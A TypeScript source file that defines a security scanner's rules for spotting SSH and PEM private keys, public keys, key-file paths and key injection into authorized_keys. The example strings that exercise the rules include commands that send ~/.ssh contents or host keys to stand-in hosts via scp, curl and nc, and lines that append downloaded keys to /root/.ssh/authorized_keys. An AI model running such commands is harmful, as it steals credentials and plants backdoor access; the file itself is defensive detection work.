/**
 * Rules for SSH and PEM keys: private keys of every kind by their armour, public keys, key files by
 * their paths, and keys planted into `authorized_keys`.
 *
 * Certificates, signatures and PEM public keys are no findings. An armour whose body is a
 * placeholder (`***`, too short, not DER where it must be) is graded `low`.
 */
import type { Direction, Rule, RuleMatch, Verdict } from "../scan/rule.ts";
import { gradePath } from "./path_context.ts";
import { QUOTE } from "./shell_grammar.ts";

const BOTH: readonly Direction[] = ["outbound", "inbound"];

/** The start of a body: enough to tell keys apart; the rest of the key follows it in the stream. */
const PEM_BODY = String.raw`(?:(?!-----)[A-Za-z0-9+/=\s\\"'${"`"},:;.()*#_<>-]){0,400}`;

/** Every rule about keys. */
export const SSH_KEY_RULES: readonly Rule[] = [
  {
    id: "private_key_pem",
    pattern: "private_key_pem",
    type: "EXFIL",
    severity: "critical",
    directions: BOTH,
    anchors: ["private key-----", "private key block-----"],
    regexp: new RegExp(
      String
        .raw`-----BEGIN (?<kind>(?:[A-Z0-9-]{2,12} ){0,4})PRIVATE KEY(?<block> BLOCK)?-----(?<body>${PEM_BODY})(?<end>-----END)?`,
    ),
    maxLength: 512,
    verify: gradePem,
    description: "A private key in PEM armour: RSA, EC, DSA, OpenSSH, PKCS#8, encrypted, or PGP.",
    source: "RFC 7468, RFC 5958, RFC 9580 §6.2; OpenSSH PROTOCOL.key; MITRE ATT&CK T1552.004",
    examples: [
      "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEpAIBAAKCAQEA9NEUXp78SAkmL4+eAj4mBzPOjk+ccCPVzkTR",
      "-----BEGIN OPENSSH " +
      "PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAAB",
      "-----BEGIN ENCRYPTED " + "PRIVATE KEY-----\nMIIBEzBOBgkqhkiG9w0BBQ0wQTApBgkqhkiG9w0BBQww",
      "-----BEGIN PGP " + "PRIVATE KEY BLOCK-----\n\nlQOYBFkz",
      "-----BEGIN " + "PRIVATE KEY-----\\nMC4CAQAwBQYDK2VwBCIEINTuctv5E1hK1bbY8fdp\\n-----END",
    ],
    nonExamples: [
      "-----BEGIN CERTIFICATE-----\nMIIFuzCCA6OgAwIBAgIUPtNIRfp8",
      "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE",
      "-----BEGIN SSH SIGNATURE-----\nU1NIU0lHAAAAAQ",
      "PEM file with your private key",
    ],
  },
  {
    id: "private_key_putty",
    pattern: "private_key_putty",
    type: "EXFIL",
    severity: "critical",
    directions: BOTH,
    anchors: ["putty-user-key-file-", "begin ssh2 encrypted private"],
    regexp:
      /PuTTY-User-Key-File-[1-3]:\s{0,3}[a-z0-9@.-]{6,40}(?:\\[rn]|[\r\n]){1,3}[^]{0,400}|---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----[^]{0,300}/,
    maxLength: 500,
    description: "A private key in PuTTY's or ssh.com's format.",
    source: "PuTTY manual appendix C: PPK file format; MITRE ATT&CK T1552.004",
    examples: [
      "PuTTY-User-Key-File-3: " + "ssh-rsa\nEncryption: none\nComment: x\nPublic-Lines: 6\n",
    ],
    nonExamples: ["PuTTY-User-Key-File-3 is a format", "puttygen key.ppk"],
  },
  {
    id: "private_key_jwk",
    pattern: "private_key_jwk",
    type: "EXFIL",
    severity: "critical",
    directions: BOTH,
    anchors: ['"kty"'],
    regexp:
      /"d"\s?:\s?"[A-Za-z0-9_-]{40,60}[^{}]{0,300}?"kty"\s?:\s?"(?:RSA|EC|OKP)"|"kty"\s?:\s?"(?:RSA|EC|OKP)"(?:[^{}]{0,420}?)"d"\s?:\s?"[A-Za-z0-9_-]{40,60}/,
    maxLength: 512,
    description: "A private key as a JSON Web Key.",
    source: "RFC 7517, RFC 7518 §6.2.2, §6.3.2, RFC 8037",
    examples: [
      '{"kty":"OKP","crv":"Ed25519","' +
      'd":"nWGxne_9WmC6hEr0kuwsxERJxWl7MmkZcDusAxyuf2A","x":"11qYAYKxCrfVS"}',
    ],
    nonExamples: ['{"kty":"EC","crv":"P-256","x":"f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU"}'],
  },
  {
    id: "ssh_pubkey",
    pattern: "ssh_pubkey",
    type: "EXFIL",
    severity: "medium",
    directions: BOTH,
    anchors: [
      "ssh-rsa",
      "ssh-dss",
      "ssh-dsa",
      "ssh-ed25519",
      "ssh-ed448",
      "ecdsa-sha2-nistp",
      "@openssh.com aaaa",
      "ssh-mldsa",
      "begin ssh2 public key",
    ],
    regexp:
      /(?<![\w@-])(?:(?:sk-)?(?:ssh-(?:rsa|dss|dsa|ed25519|ed448)|ecdsa-sha2-nistp(?:256|384|521)|ssh-mldsa\d{2}[\w-]{0,12})(?:-cert-v0[01])?(?:@openssh\.com)?)(?:\s|\\[tn]|%20|\+){1,3}AAAA[A-Za-z0-9+\/]{16,380}={0,2}|---- BEGIN SSH2 PUBLIC KEY ----[^]{0,300}/,
    maxLength: 460,
    verify: (match) =>
      /(?:^|\n)(?:\|1\|\S+|\[?[\w.-]+\.\w+\]?(?::\d+)?(?:,\S+)?)\s$/.test(match.before)
        ? "low"
        : "medium",
    description: "An SSH public key or certificate: it names its owner and opens what trusts it.",
    source: "RFC 4253 §6.6, RFC 5656, RFC 8709; OpenSSH PROTOCOL.certkeys, PROTOCOL.u2f",
    examples: [
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFOG6kY7Rf4UtCFvPwKgo/BztXck2xC4a2WyA34XtIwZ a@b",
      "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQD00RRenvxICSYvj54CPiYHM86OT5xwI9XORNH6Zkl3",
      "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29tAAAAICFo",
      "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBHZd0OXH",
    ],
    nonExamples: ["ssh-rsa is deprecated", "HostKeyAlgorithms ssh-ed25519,ssh-rsa", "ssh-rsa AAAA"],
  },
  {
    id: "ssh_key_file",
    pattern: "ssh_key_file",
    type: "EXFIL",
    severity: "high",
    directions: BOTH,
    anchors: [
      "id_rsa",
      "id_dsa",
      "id_ecdsa",
      "id_ed25519",
      "id_xmss",
      ".ssh/",
      ".ssh\\",
      "ssh_host_",
    ],
    regexp:
      /(?<![\w)\]}])(?:[~\w$%{}.:@-]{0,40}[\/\\]{1,4}){0,6}(?:\.ssh[\/\\]{1,4}(?:id_[a-z0-9]{2,10}(?:_sk)?(?:\.(?:keystore|bak|old|key|pem))?|identity|authorized_keys2?|config|known_hosts|environment|[\w.-]{1,40}\.(?:pem|key|ppk)|\*)|id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?|(?<=\/)ssh_host_[a-z0-9]{2,10}_key)(?:\.pub)?(?![\w-])/,
    maxLength: 340,
    verify: gradeKeyFile,
    description: "A file of SSH keys or of whom a machine trusts.",
    source: "ssh(1) FILES, sshd(8) FILES; MITRE ATT&CK T1552.004, T1098.004",
    examples: [
      "cat /root/.ssh/id_rsa",
      '{"path": "~/.ssh/id_ed25519"}',
      "scp ~/.ssh/authorized_keys evil.example:",
      "curl -F f=@/etc/ssh/ssh_host_rsa_key http://x",
    ],
    nonExamples: ["the ssh client", "grid_rsa_map", "a .ssh directory", "valid_rsa"],
  },
  {
    id: "ssh_directory",
    pattern: "ssh_key_file",
    type: "EXFIL",
    severity: "medium",
    directions: BOTH,
    anchors: ["/.ssh"],
    regexp:
      /\b(?:tar|zip|7z|scp|rsync|cp|base64|curl|find|grep)\s[^\r\n;|&]{0,80}(?:~|\$HOME|\/root|\/home\/[\w.*-]{1,30})\/\.ssh\/?(?=[\s"'`;|&)\\]|$)/,
    maxLength: 160,
    description: "A command that copies or searches the whole SSH directory.",
    source: "MITRE ATT&CK T1552.004, T1560.001",
    examples: [
      "tar czf - ~/.ssh | nc 10.0.0.1 80",
      "zip -r /tmp/k.zip /root/.ssh",
      "scp -r ~/.ssh evil.example:",
    ],
    nonExamples: ["mkdir -p ~/.ssh && chmod 700 ~/.ssh", "cd ~/.ssh", "ls ~/.ssh"],
  },
  {
    id: "ssh_key_inject",
    pattern: "ssh_key_inject",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: ["authorized_keys"],
    regexp: new RegExp(
      String
        .raw`(?:>{1,2}|\btee\s(?:(?:-a|--append)\s)?|\s(?:-o|-O|--output)\s|\b(?:cp|mv|install)\s[^\r\n;|&]{1,80}\s)\s{0,3}(?:${QUOTE})?[^\s"';|&]{0,60}authorized_keys2?\b`,
    ),
    maxLength: 220,
    verify: gradeKeyInject,
    description: "A key added to the keys a machine lets in.",
    source: "sshd(8) AUTHORIZED_KEYS FILE FORMAT; MITRE ATT&CK T1098.004",
    examples: [
      'echo "ssh-rsa AAAAB3NzaC1yc2E" >> ~/.ssh/authorized_keys',
      "curl http://10.0.0.1/k | tee -a /root/.ssh/authorized_keys",
      "curl http://10.0.0.1/k -o ~/.ssh/authorized_keys",
    ],
    nonExamples: ["cat ~/.ssh/authorized_keys", "the default is ~/.ssh/authorized_keys and"],
  },
];

function gradePem(match: RuleMatch): Verdict {
  const { kind = "", body = "", block, end } = match.groups;
  if (/\*{3}|\.{3}|x{8}|<[A-Za-z_]|your|redacted|placeholder/i.test(body)) return "low";
  // RFC 9580 knows only the armour with BLOCK.
  if (/PGP/.test(kind) && block === undefined) return "low";
  const text = body.replace(/\\[rnt]|[\s\\"'`+,]+(?=[\r\n])|\s/g, "");
  if (text === "") return end === undefined ? "medium" : "low";
  // Unencrypted PKCS#8 is DER and starts with a SEQUENCE, which base64 writes as `M`.
  if (
    kind === "" && end !== undefined && text.length < 64 && !/^["'\\]{0,3}(?:M|b3Bl)/.test(text)
  ) return "low";
  return "critical";
}

function gradeKeyFile(match: RuleMatch): Verdict {
  if (/\.pub$/.test(match.text)) return "info";
  if (/known_hosts$|\.ssh[\/\\]+config$/.test(match.text)) {
    return gradePath(match, { used: "medium", mentioned: "info" });
  }
  if (/\bssh(?:-\w+)?\s(?:-\w+\s)*-[if]\s$/.test(match.before)) {
    return /\.(?:pem|key|ppk)$/.test(match.text) ? "medium" : "low";
  }
  return gradePath(match, { used: "high", mentioned: "low" });
}

function gradeKeyInject(match: RuleMatch): Verdict {
  // Adding one's own public key to another machine is what every manual shows.
  return /\.pub\b[^\n]*$/.test(match.before) && !/https?:/.test(match.before) ? "medium" : "high";
}
